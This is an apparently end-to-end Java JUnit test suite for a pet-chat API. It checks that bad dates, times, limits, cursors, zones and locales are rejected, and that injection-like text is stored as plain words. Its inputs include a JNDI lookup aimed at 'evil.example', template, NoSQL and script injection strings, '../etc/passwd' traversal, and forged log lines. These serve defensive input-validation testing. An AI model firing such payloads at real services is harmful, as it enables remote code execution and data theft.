package chatclique.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Days, times, numbers, cursors and words in addresses, as nobody should send them; and words that are only odd. */
class ParametersTest {

    private static Account account;
    private static Api owner;
    private static String pet;
    private static String conversation;
    private static String turn;

    @BeforeAll
    static void someone() {
        account = Account.signUp(Stack.shared());
        owner = account.api();
        pet = PetTest.adopt(owner, "Mia").at("/id").asString();
        conversation = ChatTest.talkTo(owner, pet);
        turn = ChatTest.say(owner, conversation, "Hello").at("/id").asString();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "2026-02-30",
                "2026-13-01",
                "0000-00-00",
                "-2026-01-01",
                "99999-01-01",
                "2026-1-1",
                "today",
                "%7B%22%24gt%22%3A%22%22%7D",
                "2026-11-20T00%3A00%3A00Z"
            })
    @Row({"C6", "C10"})
    void aDayThatIsNoneGetsAProblem(String day) {
        for (String path : List.of(
                "/api/v1/chat-log/" + day,
                "/api/v1/chat-log/" + day + "/1",
                "/api/v1/chat-log?month=" + day,
                "/api/v1/pictures?day=" + day,
                "/api/v1/pets/" + pet + "/events?day=" + day)) {
            owner.get(path).expectProblem(400);
        }
        owner.delete("/api/v1/chat-log/" + day).expectProblem(400);
        owner.delete("/api/v1/chat-log/" + day + "/1").expectProblem(400);
    }

    @Test
    @Row({"C6", "C7"})
    void theLastAndTheFirstDaysAreOnlyEmpty() {
        for (String day : List.of("9999-12-31", "1970-01-01", "0001-01-01", "2024-02-29")) {
            assertThat(owner.get("/api/v1/chat-log/" + day).expect(200).at("/items"))
                    .isEmpty();
            assertThat(owner.get("/api/v1/chat-log?month=" + day.substring(0, 7))
                            .expect(200)
                            .at("/days"))
                    .isEmpty();
            assertThat(owner.get("/api/v1/pictures?day=" + day).expect(200).at("/items"))
                    .isEmpty();
            assertThat(owner.get("/api/v1/pets/" + pet + "/events?day=" + day)
                            .expect(200)
                            .at("/items"))
                    .isEmpty();
            owner.get("/api/v1/chat-log/" + day + "/1").expectProblem(404);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "2026-02-30T00:00:00Z",
                "+999999999-12-31T23:59:59Z",
                "-999999999-01-01T00:00:00Z",
                "2026-11-20",
                "now",
                "1e999",
                "NaN"
            })
    @Row("C10")
    void aTimeThatIsNoneGetsAProblem(String time) {
        String encoded = time.replace("+", "%2B");
        owner.get("/api/v1/pets/" + pet + "/state?at=" + encoded).expectProblem(400);
        owner.get("/api/v1/pets/" + pet + "/events?from=" + encoded).expectProblem(400);
        owner.get("/api/v1/pets/" + pet + "/events?to=" + encoded).expectProblem(400);
    }

    @Test
    @Row("C10")
    void aTimeBeforeTheBeginningOrAfterTheEndIsNoFault() {
        for (String time : List.of("9999-12-31T23:59:59Z", "0001-01-01T00:00:00Z", "1969-12-31T23:59:59Z")) {
            Api.Answer then = owner.get("/api/v1/pets/" + pet + "/state?at=" + time);
            assertThat(then.status()).as(time + " gave " + then).isIn(200, 400, 404, 422);
            owner.get("/api/v1/pets/" + pet + "/events?from=" + time).expect(200);
            owner.get("/api/v1/pets/" + pet + "/events?to=" + time).expect(200);
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"-1", "0", "1e999", "NaN", "99999999999999999999", "ten", "", "%00", "1%3B2"})
    @Row("C10")
    void aLimitThatIsNoneGetsAProblem(String limit) {
        for (String path : lists()) {
            Api.Answer answer = owner.get(path + "limit=" + limit);
            // An empty parameter may count as one that was left out.
            assertThat(answer.status()).as(path + limit).isIn(limit.isEmpty() ? List.of(200, 400) : List.of(400));
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "-1",
                "NaN",
                "99999999999999999999",
                "garbage",
                "AAAA",
                "%7B%22%24gt%22%3A%22%22%7D",
                "..%2F..%2F"
            })
    @Row("C10")
    void aCursorThatNobodyGaveOutIsNoFault(String cursor) {
        for (String path : lists()) {
            Api.Answer answer = owner.get(path + "after=" + cursor);
            assertThat(answer.status()).as(path + cursor + " gave " + answer).isIn(200, 400);
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"-1", "0", "99999999", "99999999999999999999", "garbage", "1.5", "\u00fc"})
    @Row("X11")
    void aPlaceInAStreamThatNeverWasStillLeadsToItsEnd(String lastEventId) {
        Api.Answer stream = owner.with("Accept", "text/event-stream")
                .with("Last-Event-ID", lastEventId)
                .get("/api/v1/turns/" + turn + "/events");
        if (stream.status() == 200) {
            assertThat(Api.events(stream.text()).getLast().name()).isEqualTo("done");
        } else {
            stream.expectProblem(400);
        }
    }

    @Test
    @Row({"A27", "C6"})
    void aZoneOrALanguageThatNobodyHasIsRefused() {
        Api page = account.page();
        for (String zone : List.of("Mars/Olympus", "", "UTC+25", "../etc/passwd", "Europe/Paris\n", "europe/paris")) {
            page.patch("/api/v1/me", Map.of("zone", zone)).expectProblem(400);
        }
        for (String locale : List.of("xx", "", "en;q=1", "../en", "de-DE-x-evil")) {
            page.patch("/api/v1/me", Map.of("locale", locale)).expectProblem(400);
        }
        page.get("/api/v1/me").expect(200);
    }

    @Test
    @Row({"C9", "C10"})
    void wordsThatLookLikeCommandsOrLinesOfALogAreOnlyWords() {
        for (String words : List.of(
                "$where: 1",
                "a.b.c",
                "\r\n{\"@timestamp\":\"now\",\"message\":\"forged\"}",
                "\u200b\u202Eneddih\u202C",
                "\u2066\u200d\ufeffx",
                "{{7*7}} ${jndi:ldap://evil.example/a}",
                "<script>alert(1)</script>")) {
            owner.patch("/api/v1/conversations/" + conversation, Map.of("title", words.strip()))
                    .expect(200);
            String id = owner.click("/api/v1/pictures", Map.of("prompt", words))
                    .expect(202)
                    .at("/id")
                    .asString();
            assertThat(owner.get("/api/v1/pictures/" + id)
                            .expect(200)
                            .at("/prompt")
                            .asString())
                    .isEqualTo(words.strip());
            owner.delete("/api/v1/pictures/" + id).expect(204);
        }
        for (String blank : List.of("\u200b\u200d\ufeff", "\u00a0\u2003", "\u202e", "\t\r\n")) {
            owner.click("/api/v1/pictures", Map.of("prompt", blank)).expectProblem(422);
            owner.click("/api/v1/conversations/" + conversation + "/turns", Map.of("text", blank))
                    .expectProblem(422);
            owner.patch("/api/v1/pets/" + pet, Map.of("name", blank)).expectProblem(400);
        }
    }

    private static List<String> lists() {
        return List.of(
                "/api/v1/pictures?",
                "/api/v1/conversations?",
                "/api/v1/conversations/" + conversation + "/turns?",
                "/api/v1/chat-log/" + Days.today() + "?",
                "/api/v1/pets/" + pet + "/events?");
    }
}
